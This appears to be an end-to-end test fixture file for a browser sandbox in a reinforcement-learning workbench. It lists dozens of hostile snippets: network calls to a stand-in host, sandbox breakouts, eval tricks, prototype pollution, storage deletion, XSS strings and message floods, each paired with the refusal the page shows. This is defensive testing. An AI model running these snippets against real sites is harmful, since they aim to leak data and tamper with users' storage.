/**
 * Files of a person's code that are tried in more than one browser: a world whose learned parameters are compared in Node, Chromium and Firefox,
 * and those that try to get out of the sandbox (docs/reliability.md). Read by e2e/write.spec.ts and tools/firefox.mjs.
 */
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { deflateRawSync } from 'node:zlib';

/** The address of the editor with this code in it. */
export const writeLink = (code) => `#/write?code=${deflateRawSync(code, { level: 9 }).toString('base64url')}`;

export const OWN_STEPS = 8000;
/** A point that is pushed about in the plane: sines, roots and chance, in few lines. */
export const OWN_CODE = `defineEnv({
  title: 'Pushed point',
  observation: ['x', 'y', 'wind'],
  actions: ['stay', 'left', 'right', 'up', 'down'],
  maxSteps: 60,
  learn: { method: 'ppo', steps: ${OWN_STEPS} },
  reset: (settings, random) => ({ x: random.uniform(-1, 1), y: random.uniform(-1, 1), wind: random.uniform(0, 6) }),
  step(state, action, settings, random) {
    state.wind += random.normal(0, 0.1);
    state.x += 0.1 * [0, -1, 1, 0, 0][action] + 0.02 * Math.sin(state.wind);
    state.y += 0.1 * [0, 0, 0, 1, -1][action] + 0.02 * Math.cos(state.wind);
    const far = Math.hypot(state.x, state.y);
    return { reward: Math.exp(-far) - 0.1, ended: far > 2 };
  },
  observe: ({ x, y, wind }) => [x, y, Math.tanh(wind)],
});`;

/** A world that walks on a line, with other members, and lines before it. */
export const walk = (members, before = '') => `${before}
defineEnv({
  title: 'Walk',
  observation: { labels: ['place'], low: 0, high: 1 },
  actions: ['left', 'right'],
  maxSteps: 20,
  reset: (settings, random) => ({ place: random.int(5) }),
  step: (state, action) => { state.place = Math.max(0, state.place + 2 * action - 1); return { reward: state.place / 10, ended: state.place === 8 }; },
  observe: (state) => [state.place / 8],
  ...{ ${members} }
});`;

/** Two programs with one short id, found among 2^24 numbers behind each. */
export const FRIENDLY = `${walk("title: 'Friendly walk'")}\n// 15594645`;
export const OTHER = `${walk("title: 'Other walk', maxSteps: 19")}\n// 16744378`;

/** What the code tries, and what the page says. Each runs in the sandbox or is refused; none reaches anything. */
const PLAIN = [
  ['fetch', walk('step: () => fetch("https://example.org/")'), /step failed/],
  [
    'its constructor',
    walk('step: () => (() => {}).constructor("return self")()'),
    /step failed.*(EvalError|unsafe-eval|Content Security)/s,
  ],
  [
    'breaking out of its function',
    `}; self.name = 'x'; indexedDB.open('a'); self.z = function () {\n${walk('')}`,
    /SecurityError|denied|no world|not answer|cannot/i,
  ],
  [
    'scripts from elsewhere',
    `}; importScripts('https://example.org/x.js'); self.z = function () {\n${walk('')}`,
    /importScripts|Failed|NetworkError/,
  ],
  ['an endless loop', walk('reset() { for (;;); }'), /did not answer for \d+ seconds/],
  [
    'messages without end',
    `}; for (let i = 0; i < 100000; i++) postMessage('x'.repeat(1000)); self.z = function () {\n${walk('')}`,
    /said too much|none of the workbench/,
  ],
  ['a message that is no text', `}; postMessage({ kind: 'ready' }); self.z = function () {\n${walk('')}`, /said something that is no text/],
  [
    'a false message',
    `}; postMessage('{"kind":"ready","world":{"title":"<img src=x>"}}'); self.z = function () {\n${walk('')}`,
    /none of the workbench/,
  ],
  ['prototypes', walk('', 'Object.prototype.polluted = 1; Array.prototype.map = null;'), /Walk: sees|failed|not a function|cannot/],
];

export const reward = (body) => `defineReward({ title: 'R', env: 'cartpole', reward: ${body} });`;
export const player = (body) => `definePlayer({ title: 'P', env: 'cartpole', act: ${body} });`;
const method = (members) =>
  `defineMethod({ title: 'M', env: 'frozen-lake', start: () => ({}), act: () => 0, learn() {}, ...{ ${members} } });`;
/** Code that breaks out of its function and then defines nothing. */
export const outside = (code) => `}; ${code}; self.z = function () {\n${walk('')}`;

const REFUSED =
  /SecurityError|denied|not defined|undefined|no world|defines no|not answer|cannot|failed|Failed|blocked|Content Security|not a constructor|not a function|null/i;

/** Each tries one door to the outside. All end in words. */
const DOORS = [
  ['a reward that fetches', reward('() => fetch("https://example.org/")'), /reward failed/],
  ['a reward that never ends', reward('() => { for (;;); }'), /did not answer for \d+ seconds/],
  ['a reward that gives a text', reward('() => "<img src=x onerror=alert(1)>"'), /reward gives/],
  ['a reward that gives an object with a getter', reward('() => ({ get valueOf() { throw 1; } })'), /reward gives/],
  ['a reward that throws a proxy', reward('() => { throw new Proxy({}, { get() { throw 1; } }); }'), /./],
  ['a reward that throws its own error class', reward('() => { throw Object.assign(new Error("x"), { failure: { id: 1 } }); }'), /./],
  ['a reward that changes what is seen', reward('({ next }) => { next.x = 5; return 1; }'), /reward failed/],
  [
    'a reward over an environment that is none',
    "defineReward({ title: 'R', env: '../../etc', reward: () => 1 });",
    /no environment|There is no/,
  ],
  ['a reward over a prototype', "defineReward({ title: 'R', env: '__proto__', reward: () => 1 });", /There is no/],
  [
    'a reward with parts without end',
    "defineReward({ title: 'R', env: 'cartpole', parts: Array(1e6).fill('a'), reward: () => 1 });",
    /parts/,
  ],
  ['a title of a million characters', "defineReward({ title: 'x'.repeat(1e6), env: 'cartpole', reward: () => 1 });", /./],
  [
    'settings without end',
    "defineReward({ title: 'R', env: 'cartpole', settings: Object.fromEntries(Array.from({ length: 1e5 }, (_, i) => ['s' + i, { default: 1, min: 0, max: 1 }])), reward: () => 1 });",
    /./,
  ],
  ['a player that sends', player('() => { new WebSocket("wss://example.org"); return 0; }'), /act failed/],
  ['a player that never ends', player('() => { while (true); }'), /did not answer for \d+ seconds/],
  ['a player with an action that is none', player('() => 99'), /act gives/],
  ['a player that gives NaN', player('() => NaN'), /act gives/],
  [
    'a player that remembers too much',
    player('(() => { const all = []; return () => { all.push(new Float64Array(10)); return 0; }; })()'),
    /P.*: sees/,
  ],
  ['a method with its settings as code', method('settings: { a: { default: "x", options: ["<script>"] } }'), /setting/],
  [
    'a method without memory',
    "defineMethod({ title: 'M', env: 'frozen-lake', start() { return () => 0; }, act: () => 0, learn() {} });",
    /M.*: sees/,
  ],
  [
    'a method over a missing environment',
    "defineMethod({ title: 'M', env: 'nothing', start: () => ({}), act: () => 0, learn() {} });",
    /There is no/,
  ],
  ['two definitions', `${reward('() => 1')}${player('() => 0')}`, /defines 2 things/],
  ['no definition', 'const nothing = 1;', /defines no world/],
  [
    'XMLHttpRequest',
    outside("const x = new XMLHttpRequest(); x.open('GET', 'https://example.org'); x.send(); throw new Error('sent ' + x.status)"),
    /sent 0/,
  ],
  ['a beacon', outside("throw new Error('beacon ' + navigator.sendBeacon('https://example.org', 'x'))"), /./],
  ['an EventSource', outside("new EventSource('https://example.org')"), /./],
  ['a WebSocket', outside("new WebSocket('wss://example.org')"), /./],
  ['WebTransport', outside("new WebTransport('https://example.org')"), /./],
  ['a peer connection', outside('new RTCPeerConnection()'), /./],
  ['a worker in the worker', outside("new Worker('https://example.org/x.js')"), /Worker is not defined/],
  [
    'a worker from a text',
    outside('new Worker(URL.createObjectURL(new Blob([\'fetch("https://example.org")\'])))'),
    /Worker is not defined/,
  ],
  ['a module', outside("import('https://example.org/x.js')"), /./],
  ['a module from a text', outside("import('data:text/javascript,1')"), /./],
  ['caches', outside("caches.open('a').then((c) => c.add('https://example.org'))"), /./],
  ['storage', outside("localStorage.setItem('a', 'b')"), REFUSED],
  ['cookies', outside("document.cookie = 'a=b'"), REFUSED],
  ['the parent page', outside("parent.document.title = 'taken'"), REFUSED],
  ['the top page', outside("top.location = 'https://example.org'"), REFUSED],
  ['a broadcast to other tabs', outside("new BroadcastChannel('rl-workbench').postMessage('x')"), /./],
  ['a lock that others wait for', outside("navigator.locks.request('rl-workbench', () => new Promise(() => {}))"), /./],
  ['the file system', outside("navigator.storage.getDirectory().then((d) => d.getFileHandle('a', { create: true }))"), /./],
  ['a font', outside("new FontFace('a', 'url(https://example.org/a.woff)').load()"), /./],
  ['a notification', outside("new Notification('x')"), /./],
  ['code made from a text', outside("eval('1')"), /EvalError|unsafe-eval|Content Security/],
  ['a function from a text', outside("new Function('return 1')()"), /EvalError|unsafe-eval|Content Security/],
  ['a timer from a text', outside("setTimeout('self.x = 1', 0)"), /./],
  ['shared memory', outside('new SharedArrayBuffer(1024)'), /./],
  [
    'a message that claims a training',
    outside("postMessage(JSON.stringify({ kind: 'trained', id: 1, result: { evalReturn: 1e9 } }))"),
    /none of the workbench/,
  ],
  [
    'a state of a million characters too many',
    outside("postMessage(JSON.stringify({ kind: 'saved', id: 1, step: 1, state: 'x'.repeat(9e6) }))"),
    /said too much|none of the workbench/,
  ],
  [
    'a picture with a link',
    outside(
      "postMessage(JSON.stringify({ kind: 'ready', world: { kind: 'world', layout: { kind: 'bodies', texture: 'https://example.org/a.png' } } }))",
    ),
    /none of the workbench/,
  ],
  ['closing itself', outside('self.close()'), /not answer|./],
  [
    'other lists',
    walk('', 'Array.prototype[Symbol.iterator] = function* () { for (;;) yield 1; };'),
    /not answer|failed|cannot|Walk: sees|./,
  ],
  ['JSON of its own', outside('JSON.stringify = () => \'{"kind":"eval"}\''), /none of the workbench|./],
  ['numbers of its own', walk('', 'Number.isFinite = () => true; Number.isInteger = () => true;'), /./],
];

const NETWORK = [
  "fetch('https://example.org/1')",
  "fetch('https://example.org/2', { mode: 'no-cors' })",
  "fetch('https://example.org/3', { method: 'POST', body: 'x' })",
  "fetch('https://example.org/4', { keepalive: true })",
  "fetch('https://example.org/5', { credentials: 'include', cache: 'force-cache' })",
  "fetch(new Request('https://example.org/6'))",
  "fetch('https://example.org/7', { mode: 'navigate' })",
  "Reflect.apply(fetch, self, ['https://example.org/8'])",
  "const x = new XMLHttpRequest(); x.open('GET', 'https://example.org/9'); x.send()",
  "const x = new XMLHttpRequest(); x.open('POST', 'https://example.org/10', false); x.send('x')",
  "navigator.sendBeacon('https://example.org/11', 'x')",
  "navigator.sendBeacon('https://example.org/12', new Blob(['x']))",
  "new EventSource('https://example.org/13')",
  "new WebSocket('wss://example.org/14')",
  "new WebSocketStream('wss://example.org/15')",
  "new WebTransport('https://example.org/16')",
  "new RTCPeerConnection({ iceServers: [{ urls: 'stun:example.org' }] }).createOffer()",
  "importScripts('https://example.org/17')",
  'importScripts(URL.createObjectURL(new Blob(["importScripts(\'https://example.org/18\')"])))',
  'importScripts(URL.createObjectURL(new Blob(["fetch(\'https://example.org/19\')"])))',
  "import('https://example.org/20')",
  "import('data:text/javascript,fetch(`https://example.org/21`)')",
  "import(URL.createObjectURL(new Blob([\"fetch('https://example.org/22')\"], { type: 'text/javascript' })))",
  "new Worker('https://example.org/23')",
  'new Worker(URL.createObjectURL(new Blob(["fetch(\'https://example.org/24\')"])))',
  "new SharedWorker('https://example.org/25')",
  "navigator.serviceWorker.register('https://example.org/26')",
  "new FontFace('a', 'url(https://example.org/27)').load()",
  "caches.open('a').then((c) => c.add('https://example.org/28'))",
  "caches.open('a').then((c) => c.addAll(['https://example.org/29']))",
  "WebAssembly.compileStreaming(fetch('https://example.org/30'))",
  "WebAssembly.instantiateStreaming(fetch('https://example.org/31'))",
  "location.href = 'https://example.org/32'",
  "location.assign('https://example.org/33')",
  "new Notification('x', { icon: 'https://example.org/34', image: 'https://example.org/35' })",
  "createImageBitmap(fetch('https://example.org/36').then((a) => a.blob()))",
  "new ImageDecoder({ type: 'image/png', data: fetch('https://example.org/37').then((a) => a.body) })",
  "registration.showNotification('x', { icon: 'https://example.org/38' })",
  "navigator.credentials.get({ federated: { providers: ['https://example.org/39'] } })",
  "fetchLater('https://example.org/40')",
];
const STORAGE = [
  "indexedDB.open('a', 1)",
  'indexedDB.databases()',
  "indexedDB.deleteDatabase('rl-workbench')",
  "localStorage.setItem('a', 'b')",
  "sessionStorage.setItem('a', 'b')",
  'caches.keys()',
  "caches.delete('parts')",
  "caches.match('./')",
  "navigator.storage.getDirectory().then((d) => d.removeEntry('a', { recursive: true }))",
  'navigator.storage.estimate()',
  'navigator.storage.persist()',
  "navigator.storageBuckets.open('a')",
  "cookieStore.set('a', 'b')",
  'cookieStore.getAll()',
  "document.cookie = 'a=b'",
  "openDatabase('a', '1', 'a', 1)",
  'webkitRequestFileSystemSync(0, 1024)',
  "navigator.locks.request('rl-workbench', () => new Promise(() => {}))",
  'navigator.locks.query()',
  "new BroadcastChannel('rl-workbench').postMessage('x')",
  'navigator.geolocation.getCurrentPosition(() => {})',
  'navigator.mediaDevices.getUserMedia({ audio: true, video: true })',
  'navigator.usb.getDevices()',
  'navigator.hid.getDevices()',
  'navigator.serial.getPorts()',
  'navigator.bluetooth.requestDevice({ acceptAllDevices: true })',
  "navigator.permissions.query({ name: 'camera' })",
  "navigator.wakeLock.request('screen')",
  'Notification.requestPermission()',
  'navigator.clipboard.readText()',
  "navigator.clipboard.writeText('x')",
  'navigator.credentials.create({ password: { id: "a", password: "b" } })',
  'showOpenFilePicker()',
  "parent.localStorage.setItem('a', 'b')",
  "top.document.title = 'taken'",
  "parent.postMessage('x', '*')",
  'new IdleDetector().start()',
];
/** Each of them by itself, whatever the others did. */
const all = (attempts) =>
  outside(
    `${attempts.map((one) => `try { Promise.resolve((() => { ${one.startsWith('const ') ? one : `return ${one}`}; })()).catch(() => {}); } catch {}`).join('\n')}
throw new Error('tried ${attempts.length} ways')`,
  );
const TABLES = [
  ['every way to the network', all(NETWORK), /tried 40 ways/],
  ['every storage and device', all(STORAGE), /tried 37 ways|An error without a message/],
];

/** What the code tries, the code, and what the page says of it. */
export const HOSTILE = [...PLAIN, ...DOORS, ...TABLES].map(([what, code, says = REFUSED]) => ({ what, code, says }));

/** The address of the laboratory with the world of this code, which is asked about before it runs. */
export const labLink = (code, settings = 'algo=ppo&steps=4096&seeds=1') => {
  const id = createHash('sha256').update(code).digest('hex').slice(0, 12);
  return `#env=own-${id}&env.$code=${encodeURIComponent(code)}&${settings}`;
};

/** A whole world, and code beside it that is out of its function. */
const beside = (code) => `}; ${code}; self.ownWorld = function (defineEnv, defineReward, definePlayer, defineMethod, Math) {\n${walk('')}`;
/** What code says in the laboratory's own way, some time after it was opened there. */
const said = (text) => beside(`setTimeout(() => postMessage(${JSON.stringify(text)}), 1500)`);
const SAID = /none of the workbench's messages|said too much at once/;
export const HOSTILE_IN_LAB = [
  { what: 'a result of another seed', code: said('lab.{"kind":"events","events":[{"kind":"result","result":{"seed":77}}]}'), says: SAID },
  { what: 'a text that is no message', code: said('lab.<script>'), says: SAID },
  { what: 'a prototype', code: said('lab.{"kind":"ended","__proto__":{"polluted":1}}'), says: SAID },
  { what: 'lists in lists', code: said(`lab.${'['.repeat(9000)}`), says: SAID },
  { what: 'parts without end', code: beside("setTimeout(() => { for (;;) postMessage('lab+' + 'x'.repeat(1e6)); }, 1500)"), says: SAID },
  { what: 'messages without end', code: beside('setTimeout(() => { for (;;) postMessage(\'lab.{"kind":"here"}\'); }, 1500)'), says: SAID },
];

/**
 * A server on this machine that stands for the outside: what connects to it has left the sandbox. That a browser was asked for an address says
 * less, because drivers also tell of requests that the policy of the page then blocks.
 */
export async function openTrap() {
  let calls = 0;
  const server = createServer((_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end());
  server.on('connection', () => {
    calls++;
  });
  await new Promise((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const host = `127.0.0.1:${server.address().port}`;
  return {
    url: `http://${host}/`,
    /** The code with this server in place of example.org. */
    aim: (code) => code.replaceAll('https://example.org', `http://${host}`).replaceAll('wss://example.org', `ws://${host}`),
    /** Connections since it was asked last. */
    calls() {
      const found = calls;
      calls = 0;
      return found;
    },
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}
